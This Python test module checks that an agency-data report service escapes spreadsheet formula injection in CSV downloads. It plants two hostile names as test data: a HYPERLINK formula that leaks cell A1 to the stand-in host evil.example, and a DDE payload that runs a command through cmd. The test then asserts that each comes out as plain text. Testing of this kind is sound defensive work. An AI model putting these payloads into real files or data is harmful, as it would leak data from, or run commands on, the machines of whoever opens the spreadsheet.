"""Hostile source data in the downloads people open (acceptance probe, both backends).

An agency's records are untrusted: a name, an instansi or a region may carry a spreadsheet formula
(``=``, ``+``, ``-``, ``@``, tab, CR at the start), control characters a workbook cannot hold, dollar
signs a chart library reads as mathematics, or one word longer than a page. Every download a
person makes of such data must open as the text the source sent (a formula stays text) and must
never fail (no 500).
"""

from __future__ import annotations

import csv
import io
from datetime import date

from sbt_sync.imut.elections import load_election_calendar
from sbt_sync.imut.store import evaluate_findings
from sbt_sync.imut.workdays import load_working_days
from tests.console.conftest import World
from tests.imut.builders import ingest, payload

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def _imut_findings(world: World, *officials: str) -> None:
    """One I-MUT action per official's name (each a finding: a replacement without approval)."""
    ingest(world.database, *(payload(n, pejabatPenetapNama=name) for n, name in enumerate(officials, 1)))
    with world.database.session() as session:
        evaluate_findings(
            session,
            elections=load_election_calendar(),
            workdays=load_working_days(),
            as_of=date(2024, 11, 27),
        )


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("# ")]
    return [cell for row in csv.reader(io.StringIO("".join(lines))) for cell in row]


def test_an_imut_csv_never_hands_a_spreadsheet_a_formula_from_the_source(world: World) -> None:
    _imut_findings(world, HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+62-812-0000")
    steward = world.login("steward")
    seen: list[str] = []
    for which in ("regions", "instansi", "officials"):
        response = steward.get(f"/imut/report?format=csv&table={which}")
        assert response.status_code == 200, response.text
        cells = _cells(response.content)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (which, cells)
        seen += cells
    # the names are still there, whole, as text
    assert "'" + HYPERLINK in seen and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen and "'+62-812-0000" in seen
